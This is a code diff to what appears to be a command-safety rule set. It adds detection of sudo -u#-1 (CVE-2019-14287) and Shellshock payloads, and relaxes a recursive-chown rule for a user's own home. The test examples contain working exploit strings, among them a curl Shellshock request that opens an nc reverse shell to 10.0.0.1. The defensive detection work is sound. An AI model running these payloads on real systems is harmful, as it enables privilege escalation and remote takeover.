@@ -1,4 +1,5 @@
 // Opening permissions on broad trees, and setuid shells.
+import { rawWords } from "../resolve.js";
 import type { CommandRule } from "../rule.js";
 import { hasFlag, operands, targetClasses } from "./facts.js";
 
@@ -7,6 +8,21 @@ const SETUID = /^(?:[2467][0-7]{3}|u\+s|\+s|g\+s|a\+s)$/;
 const SHELL_LIKE = /(?:^|\/)(?:bash|sh|dash|zsh|ksh|python[0-9.]*|perl|ruby|find|vim?|nano|less|more|awk|env|node|php|cp|tee)$/;
 
 export const permissionRules: CommandRule[] = [
+  {
+    id: "privilege-escalation-exploit",
+    description: "known privilege-escalation tricks: sudo -u#-1 (CVE-2019-14287), Shellshock function definitions",
+    severity: "critical",
+    reason: "semantic:destructive_command",
+    check: (inv) => {
+      if (inv.via.includes("sudo") && /(?:^|\s)(?:-u\s*#-1|-u\s*#4294967295|--user=#-1)/.test(inv.source)) return true;
+      // Shellshock: a function definition as a *value* (env var, header), not `name() { … }`.
+      return /(?:^|[='"\s])\(\)\s*\{\s*:\s*;\s*\}\s*;/.test(inv.source);
+    },
+    examples: {
+      positive: ["sudo -u#-1 /bin/bash", "env x='() { :;}; echo vulnerable' bash -c 'echo test'", "curl -A '() { :;}; /bin/bash -c \"nc 10.0.0.1 1337 -e /bin/sh\"' http://target/cgi-bin/status"],
+      negative: ["sudo -u deploy ls", "f() { :; }; f"],
+    },
+  },
   {
     id: "chmod-world-writable-broad",
     description: "world-writable permissions on /, a home directory or a system tree",
@@ -34,12 +50,17 @@ export const permissionRules: CommandRule[] = [
     names: ["chown", "chgrp"],
     check: (inv) => {
       if (!hasFlag(inv.args, "R", ["--recursive"])) return false;
-      const classes = targetClasses(operands(inv.args).slice(1));
-      return classes.has("root") || classes.has("system") || classes.has("home");
+      const [, ...targets] = operands(inv.args);
+      const owner = rawWords(inv).slice(1).find((w) => !w.startsWith("-")) ?? "";
+      const classes = targetClasses(targets);
+      if (classes.has("root") || classes.has("system")) return true;
+      // Giving your own home back to yourself is a repair, not an attack.
+      const self = /^(?:\$USER|\$\(whoami\)|`whoami`|\$\(id -u\)|\$LOGNAME)(?::|$)/.test(owner);
+      return classes.has("home") && !self ? "medium" : false;
     },
     examples: {
-      positive: ["chown -R nobody /", "sudo chown -R me:me /usr", "chgrp -R users /etc"],
-      negative: ["chown -R www-data:www-data /var/www/html", "chown me file.txt"],
+      positive: ["chown -R nobody /", "sudo chown -R me:me /usr", "chgrp -R users /etc", "sudo chown -R nobody ~"],
+      negative: ["chown -R www-data:www-data /var/www/html", "chown me file.txt", "sudo chown -R $USER:$USER ~", "sudo chown -R $(whoami) ~/"],
     },
   },
   {
